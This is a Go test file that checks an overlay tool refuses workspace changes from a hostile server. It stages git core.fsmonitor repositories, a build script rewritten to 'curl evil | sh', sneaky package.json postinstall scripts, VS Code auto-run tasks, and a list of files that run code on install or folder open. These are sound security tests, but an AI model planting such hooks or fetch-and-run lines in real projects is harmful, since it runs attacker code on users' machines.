//go:build linux

package overlay

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/containerd/continuity/fs/fstest"
	"golang.org/x/sys/unix"
)

// Attacks on Apply by a hostile server: each test sets the attack up and
// asserts the safe outcome, so a test that fails is an attack that works.

// attackFixture is workspaceFixture with host paths added before the
// baseline is taken (a repo, an executable script, ...).
func attackFixture(t *testing.T, host []fstest.Applier, upper ...fstest.Applier) ApplyOptions {
	t.Helper()
	o := workspaceFixture(t, upper...)
	if len(host) > 0 {
		apply(t, o.Host, host...)
		b, err := TakeBaseline(o.Host, BaselineOptions{})
		if err != nil {
			t.Fatal(err)
		}
		o.Baseline = b
	}
	return o
}

func mustApply(t *testing.T, o ApplyOptions, paths ...string) ApplyResult {
	t.Helper()
	res, err := Apply(context.Background(), o, paths...)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func applied(res ApplyResult, p string) bool {
	for _, c := range res.Applied {
		if c.Path == p {
			return true
		}
	}
	return false
}

// evilRepo is a git directory at dir whose config runs a command on the
// next `git status` (core.fsmonitor), e.g. from a shell prompt.
func evilRepo(dir, marker string, extra string) []fstest.Applier {
	return []fstest.Applier{
		fstest.CreateDir(dir, 0o755),
		fstest.CreateFile(dir+"/HEAD", []byte("ref: refs/heads/main\n"), 0o644),
		fstest.CreateFile(dir+"/config", []byte("[core]\n\trepositoryformatversion = 0\n"+extra+
			"\tfsmonitor = \"touch "+marker+"; false\"\n"), 0o644),
		fstest.CreateDir(dir+"/objects", 0o755),
		fstest.CreateDir(dir+"/refs", 0o755),
	}
}

// gitRuns runs `git status` in dir and says whether the repo's fsmonitor
// ran (marker made): proof that what was applied runs code.
func gitRuns(t *testing.T, dir, marker string) bool {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		return false
	}
	cmd := exec.Command("git", "-c", "safe.directory=*", "status")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+t.TempDir())
	cmd.Run()
	_, err := os.Stat(marker)
	return err == nil
}

// TestApplyAttackGitFile: a `.git` FILE ("gitdir: ...") sends git to a
// repository the run made, whose config runs code (core.fsmonitor) at
// the next `git status`. Held back it must be, like anything in .git/:
// created, replacing the user's .git directory, or rewriting a
// submodule's or worktree's .git file.
func TestApplyAttackGitFile(t *testing.T) {
	hostRepo := []fstest.Applier{
		fstest.CreateDir(".git", 0o755),
		fstest.CreateFile(".git/HEAD", []byte("ref: refs/heads/main\n"), 0o644),
		fstest.CreateFile(".git/config", []byte("[core]\n\trepositoryformatversion = 0\n"), 0o644),
		fstest.CreateDir(".git/objects", 0o755), fstest.CreateDir(".git/refs", 0o755),
	}
	cases := []struct {
		name     string
		host     []fstest.Applier
		gitFile  string // the .git file the run writes
		repoDir  string // where its gitdir is
		checkDir string // where git status runs
	}{
		{"created", nil, ".git", ".evil", ""},
		{"replacing the host .git dir", hostRepo, ".git", ".evil", ""},
		{"rewriting a submodule's .git file", []fstest.Applier{
			fstest.CreateFile("sub/.git", []byte("gitdir: ../.git/modules/sub\n"), 0o644)}, "sub/.git", ".evil", "sub"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			marker := filepath.Join(t.TempDir(), "pwned")
			rel := strings.Repeat("../", strings.Count(tc.gitFile, "/"))
			var upper []fstest.Applier
			if tc.checkDir != "" {
				upper = append(upper, fstest.CreateDir(tc.checkDir, 0o755))
			}
			upper = append(append(upper, evilRepo(tc.repoDir, marker, "")...),
				fstest.CreateFile(tc.gitFile, []byte("gitdir: "+rel+tc.repoDir+"\n"), 0o644))
			o := attackFixture(t, tc.host, upper...)
			cs, err := Changes(o)
			if err != nil {
				t.Fatal(err)
			}
			for _, c := range cs {
				if c.Path == tc.gitFile && (c.Refused == nil || !c.Refused.Reason.HeldBack()) {
					t.Errorf("changes: %s (%s) not held back: %+v", tc.gitFile, c.Change, c.Refused)
				}
			}
			res := mustApply(t, o)
			if applied(res, tc.gitFile) {
				t.Errorf("%s (gitdir: %s) applied with no path named; applied %v", tc.gitFile, tc.repoDir, summary(res.Applied))
			}
			if gitRuns(t, filepath.Join(o.Host, tc.checkDir), marker) {
				t.Errorf("`git status` in the host directory ran the run's core.fsmonitor after `apply RUN`")
			}
		})
	}
}

// TestApplyAttackBareRepo: a bare-looking repository (HEAD, config,
// objects/, refs/) in a directory; git uses it when run there, and its
// core.worktree + core.fsmonitor run code on `git status`. Not among the
// listed places: a gap of the list, not of the code.
func TestApplyAttackBareRepo(t *testing.T) {
	marker := filepath.Join(t.TempDir(), "pwned")
	upper := append([]fstest.Applier{fstest.CreateDir("sub", 0o755)},
		evilRepo("sub/.cache", marker, "\tbare = false\n\tworktree = ..\n")...)
	o := attackFixture(t, nil, upper...)
	res := mustApply(t, o)
	if applied(res, "sub/.cache/config") {
		t.Errorf("a bare repository's config (core.fsmonitor) applied with no path named")
	}
	if gitRuns(t, filepath.Join(o.Host, "sub/.cache"), marker) {
		t.Errorf("`git status` in sub/.cache ran the run's core.fsmonitor")
	}
}

// TestApplyAttackModifyExecutable: the run rewrites a script the host has
// executable already (build.sh, gradlew, a core.hooksPath hook): it gains
// no executable bit, so it is not held back. By the letter of the docs
// ("gains an executable bit") this is applied; it runs the run's code the
// next time the user runs it.
func TestApplyAttackModifyExecutable(t *testing.T) {
	o := attackFixture(t, []fstest.Applier{fstest.CreateFile("build.sh", []byte("#!/bin/sh\nmake\n"), 0o755)},
		fstest.CreateFile("build.sh", []byte("#!/bin/sh\ncurl evil | sh\nmake\n"), 0o755))
	res := mustApply(t, o)
	if applied(res, "build.sh") {
		t.Errorf("an executable host file rewritten by the run applied with no path named")
	}
}

// TestApplyAttackGroupOtherExec: only group or other execute gained.
func TestApplyAttackGroupOtherExec(t *testing.T) {
	for _, mode := range []os.FileMode{0o654, 0o645, 0o744} {
		t.Run(fmt.Sprintf("%04o", mode), func(t *testing.T) {
			o := attackFixture(t, nil, fstest.CreateFile("a.txt", []byte("one\ntwo\nthree\n"), mode))
			res := mustApply(t, o)
			if applied(res, "a.txt") {
				t.Errorf("a.txt 0644 -> %04o applied with no path named", mode)
			}
		})
	}
}

// TestApplyAttackDirMode: a host directory the run chmods (world-
// writable, setgid) stays as it was: the mode of a directory is never
// applied.
func TestApplyAttackDirMode(t *testing.T) {
	for _, mode := range []os.FileMode{0o777, 0o755 | os.ModeSetgid, 0o777 | os.ModeSticky} {
		t.Run(mode.String(), func(t *testing.T) {
			o := attackFixture(t, nil, fstest.CreateDir("sub", 0o755), fstest.Chmod("sub", mode),
				fstest.CreateFile("sub/b.txt", []byte("changed\n"), 0o600))
			mustApply(t, o)
			fi, err := os.Lstat(filepath.Join(o.Host, "sub"))
			if err != nil || fi.Mode() != os.ModeDir|0o755 {
				t.Errorf("sub is %v after apply (%v), want drwxr-xr-x", fi.Mode(), err)
			}
		})
	}
}

// TestApplyAttackHardLink: a file of the upper hard-linked to one in
// .git/: each path is judged on its own, the harmless one written as a
// copy, the hook's held back.
func TestApplyAttackHardLink(t *testing.T) {
	o := attackFixture(t, nil, fstest.CreateDir(".git", 0o755), fstest.CreateFile(".git/config", []byte("[core]\n\tfsmonitor = evil\n"), 0o644),
		fstest.Link(".git/config", "notes.txt"))
	res := mustApply(t, o)
	if applied(res, ".git/config") || applied(res, ".git") {
		t.Errorf("applied %v", summary(res.Applied))
	}
	var st syscall.Stat_t
	if err := syscall.Lstat(filepath.Join(o.Host, "notes.txt"), &st); err == nil && st.Nlink != 1 {
		t.Errorf("notes.txt has %d links on the host", st.Nlink)
	}
}

// TestApplyAttackNamingTricks: naming a parent, with a trailing slash, a
// "./" prefix, or the root, unlocks nothing held back below it: only the
// exact path of a change does.
func TestApplyAttackNamingTricks(t *testing.T) {
	upper := []fstest.Applier{fstest.CreateDir(".git", 0o755), fstest.CreateDir(".git/hooks", 0o755),
		fstest.CreateFile(".git/hooks/pre-commit", []byte("#!/bin/sh\nevil\n"), 0o755),
		fstest.CreateFile(".git/config", []byte("[core]\n\tfsmonitor = evil\n"), 0o644),
		fstest.CreateFile("README.md", []byte("hi\n"), 0o644)}
	for _, names := range [][]string{{".git"}, {".git/"}, {"./.git"}, {"./.git/hooks/"}, {"."}, {"./"}, {".git//hooks"}, {"README.md"}, {".git/hooks/pre-commit/."}} {
		t.Run(strings.Join(names, ","), func(t *testing.T) {
			o := attackFixture(t, nil, upper...)
			res := mustApply(t, o, names...)
			for _, p := range []string{".git/config", ".git/hooks/pre-commit"} {
				if applied(res, p) && !(names[0] == ".git/hooks/pre-commit/." && p == ".git/hooks/pre-commit") {
					t.Errorf("apply %v wrote %s", names, p)
				}
			}
		})
	}
}

// TestApplyAttackCodePlaceDepthAndShapes: code places deep down, a
// directory made where the host had a file of that name.
func TestApplyAttackCodePlaceDepthAndShapes(t *testing.T) {
	deep := []fstest.Applier{fstest.CreateDir("a", 0o755), fstest.CreateDir("a/b", 0o755), fstest.CreateDir("a/b/.vscode", 0o755),
		fstest.CreateFile("a/b/.vscode/tasks.json", []byte(`{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"evil"}]}`), 0o644)}
	o := attackFixture(t, nil, deep...)
	if res := mustApply(t, o); applied(res, "a/b/.vscode/tasks.json") {
		t.Errorf("a/b/.vscode/tasks.json applied")
	}
	o = attackFixture(t, []fstest.Applier{fstest.CreateFile(".vscode", []byte("x\n"), 0o644)},
		fstest.CreateDir(".vscode", 0o755), fstest.CreateFile(".vscode/tasks.json", []byte(`{"tasks":[]}`), 0o644))
	if res := mustApply(t, o); applied(res, ".vscode/tasks.json") {
		t.Errorf(".vscode/tasks.json applied (.vscode a file on the host)")
	}
}

// TestApplyAttackCaseAndUnicode: on a case-insensitive host directory
// (ext4 casefold, vfat, exfat, a CIFS share) `.Git` is `.git` to git, so
// the places match whatever their case. A trailing space or a zero-width
// character makes another name, which no tool takes for the place (a
// note, not a hole).
func TestApplyAttackCaseAndUnicode(t *testing.T) {
	for _, p := range []string{".Git/config", ".GIT/hooks/x", ".VSCode/tasks.json", "MAKEFILE", "sub/PACKAGE.JSON"} {
		if runsCode(p) == "" {
			t.Errorf("%q is not a code place", p)
		}
	}
	for _, p := range []string{".git /config", ".gi\u0074\u200b/config"} {
		if runsCode(p) == "" {
			t.Logf("note: %q is not a code place (no tool reads it as one)", p)
		}
	}
}

// TestApplyAttackPackageJSON: ways to change the scripts that a JSON
// reader other than npm's might miss.
func TestApplyAttackPackageJSON(t *testing.T) {
	const host = `{"name":"a","scripts":{"test":"node t.js"}}`
	big := strings.Repeat(" ", int(DefaultMaxDiffBytes)+10)
	cases := map[string]struct{ host, run string }{
		"duplicate key, the last new":    {host, `{"name":"a","scripts":{"test":"node t.js"},"scripts":{"test":"node t.js","postinstall":"evil"}}`},
		"unicode escaped key":            {host, `{"name":"a","scripts":{"test":"node t.js"},"\u0073cripts":{"postinstall":"evil"}}`},
		"escaped value":                  {host, `{"name":"a","scripts":{"test":"node t.js","\u0070ostinstall":"evil"}}`},
		"run's copy over the diff bound": {host, `{"name":"a",` + big + `"scripts":{"test":"node t.js","postinstall":"evil"}}`},
		"host copy over the diff bound":  {`{"name":"a",` + big + `"scripts":{"test":"node t.js"}}`, `{"name":"a","scripts":{"test":"node t.js","postinstall":"evil"}}`},
		"both over the diff bound":       {`{"name":"a",` + big + `"scripts":{"test":"node t.js"}}`, `{"name":"a",` + big + `"scripts":{"test":"evil"}}`},
		"BOM":                            {host, "\ufeff" + `{"name":"a","scripts":{"test":"node t.js","postinstall":"evil"}}`},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			o := attackFixture(t, []fstest.Applier{fstest.CreateFile("package.json", []byte(tc.host), 0o644)},
				fstest.CreateFile("package.json", []byte(tc.run), 0o644))
			if res := mustApply(t, o); applied(res, "package.json") {
				t.Errorf("package.json with changed scripts applied")
			}
		})
	}
}

// TestApplyAttackSparseNotNamed: a tiny file named, a 1 TiB sparse file
// beside it: only the tiny one is written, within the bound.
func TestApplyAttackSparseNotNamed(t *testing.T) {
	o := attackFixture(t, nil, sparseFile("huge.img", 1<<40), fstest.CreateFile("small.txt", []byte("s\n"), 0o644))
	res := mustApply(t, o, "small.txt")
	if !applied(res, "small.txt") || applied(res, "huge.img") {
		t.Errorf("applied %v refused %v", summary(res.Applied), res.Refused)
	}
	if _, err := os.Lstat(filepath.Join(o.Host, "huge.img")); err == nil {
		t.Errorf("huge.img written")
	}
}

// tmpfsDir mounts a tmpfs of size bytes on a fresh directory.
func tmpfsDir(t *testing.T, size string) string {
	t.Helper()
	d := t.TempDir()
	if err := unix.Mount("tmpfs", d, "tmpfs", 0, "size="+size); err != nil {
		t.Skipf("mounting a tmpfs: %v", err)
	}
	t.Cleanup(func() { unix.Unmount(d, unix.MNT_DETACH) })
	return d
}

// TestApplyAttackBoundOverflow: the apparent sizes are summed in an
// int64; sparse files whose sizes add up to 2^64 - X wrap the sum, so a
// real file of X bytes goes through a bound far below X. (An upper dir on
// tmpfs, xfs or btrfs takes files of 2^62 bytes; on ext4, 2^19 files of
// 16 TiB do the same.)
func TestApplyAttackBoundOverflow(t *testing.T) {
	const real = 4 << 20
	o := workspaceFixture(t)
	o.Upper = tmpfsDir(t, "64m")
	set := func(name string, size int64) fstest.Applier {
		return applyFn(func(root string) error {
			f, err := os.Create(filepath.Join(root, name))
			if err != nil {
				return err
			}
			return errors.Join(f.Truncate(size), f.Close())
		})
	}
	apply(t, o.Upper, set("h1", 1<<62), set("h2", 1<<62), set("h3", 1<<62), set("h4", 1<<62-real),
		fstest.CreateFile("real.bin", []byte(strings.Repeat("R", real)), 0o644))
	o.MaxBytes = 1 << 20
	res := mustApply(t, o)
	if applied(res, "real.bin") {
		t.Errorf("a %d-byte file applied under a bound of %d (the sum of sizes wrapped); refused %v", real, o.MaxBytes, res.Refused)
	}
}

// TestApplyAttackManySmall: the bound counts apparent bytes only, so
// empty directories and 1-byte files (a block and an inode each) write
// many times the bound to the disk.
func TestApplyAttackManySmall(t *testing.T) {
	var upper []fstest.Applier
	for i := range 300 {
		upper = append(upper, fstest.CreateDir(fmt.Sprintf("d%03d", i), 0o755), fstest.CreateFile(fmt.Sprintf("f%03d", i), []byte("x"), 0o644))
	}
	o := attackFixture(t, nil, upper...)
	o.MaxBytes = 256 << 10
	var before, after unix.Statfs_t
	unix.Statfs(o.Host, &before)
	res := mustApply(t, o)
	unix.Statfs(o.Host, &after)
	used := (int64(before.Bfree) - int64(after.Bfree)) * before.Bsize
	var alloc int64
	for _, c := range res.Applied {
		var st unix.Stat_t
		if unix.Lstat(filepath.Join(o.Host, c.Path), &st) == nil {
			alloc += st.Blocks * 512
		}
	}
	if alloc > o.MaxBytes {
		t.Errorf("%d entries applied holding %d bytes on disk (free space down %d), over a bound of %d", len(res.Applied), alloc, used, o.MaxBytes)
	}
}

// TestApplyAttackFullDisk: with no free space (Bavail 0, only root's
// reserve left), the default bound is 0, which Apply takes as no bound: an
// apply as root writes into the reserve.
func TestApplyAttackFullDisk(t *testing.T) {
	if _, err := exec.LookPath("mkfs.ext4"); err != nil {
		t.Skip("no mkfs.ext4")
	}
	img := filepath.Join(t.TempDir(), "fs.img")
	if err := exec.Command("truncate", "-s", "32M", img).Run(); err != nil {
		t.Skip(err)
	}
	if out, err := exec.Command("mkfs.ext4", "-q", "-F", "-m", "10", img).CombinedOutput(); err != nil {
		t.Skipf("mkfs: %v %s", err, out)
	}
	mnt := t.TempDir()
	if out, err := exec.Command("mount", "-o", "loop", img, mnt).CombinedOutput(); err != nil {
		t.Skipf("mount: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("umount", "-l", mnt).Run() })
	host := filepath.Join(mnt, "ws")
	apply(t, mnt, fstest.CreateDir("ws", 0o755))
	apply(t, host, hostTree)
	// Fill what users may use.
	for i := 0; ; i++ {
		var fs unix.Statfs_t
		unix.Statfs(host, &fs)
		if fs.Bavail == 0 {
			break
		}
		if i > 64 {
			t.Skip("could not fill the file system")
		}
		f, _ := os.Create(filepath.Join(mnt, fmt.Sprintf("fill%d", i)))
		unix.Fallocate(int(f.Fd()), 0, 0, int64(fs.Bavail)*fs.Bsize)
		f.Close()
	}
	b, err := TakeBaseline(host, BaselineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	up := t.TempDir()
	apply(t, up, fstest.CreateFile("big.bin", []byte(strings.Repeat("B", 1<<20)), 0o644))
	o := ApplyOptions{Host: host, Upper: up, Baseline: b}
	bound, _ := DefaultApplyBound(host)
	res := mustApply(t, o)
	if applied(res, "big.bin") {
		t.Errorf("1 MiB applied to a file system with no space free (default bound %d taken as none)", bound)
	}
	if len(res.Refused) == 0 || res.Refused[0].Reason != RefuseApplyBound {
		t.Errorf("refused %v, want the apply bound (default bound %d)", res.Refused, bound)
	}
}

// TestApplyAttackUnlistedCodePlaces: files outside the listed places that
// run code on the host without the user choosing to run the project's
// code (on install, on opening the folder in an IDE, on every python of a
// virtualenv, on `git status`). Gaps of the list.
func TestApplyAttackUnlistedCodePlaces(t *testing.T) {
	for _, p := range []string{
		"binding.gyp",   // npm install runs node-gyp rebuild; gyp's <!(cmd) runs shell
		".pnpmfile.cjs", // pnpm install requires it
		"package.yaml",  // pnpm's manifest: scripts
		"conftest.py",   // pytest imports it
		".venv/lib/python3.12/site-packages/evil.pth", // every python of the venv runs it
		".venv/bin/activate",                          // sourced
		".env/bin/activate",                           // a venv named .env: sourced
		".cargo/config.toml",                          // cargo: rustc-wrapper, runner
		".devcontainer/devcontainer.json",             // initializeCommand runs on the host
		"gradle/wrapper/gradle-wrapper.properties",    // distributionUrl: IDE import runs it
		".mvn/extensions.xml",                         // maven loads the extension
		"CMakePresets.json",                           // IDE configure on open
		"x.code-workspace",                            // tasks, settings
	} {
		if runsCode(p) == "" {
			t.Errorf("%s runs code on the host but is not a code place", p)
		}
	}
}
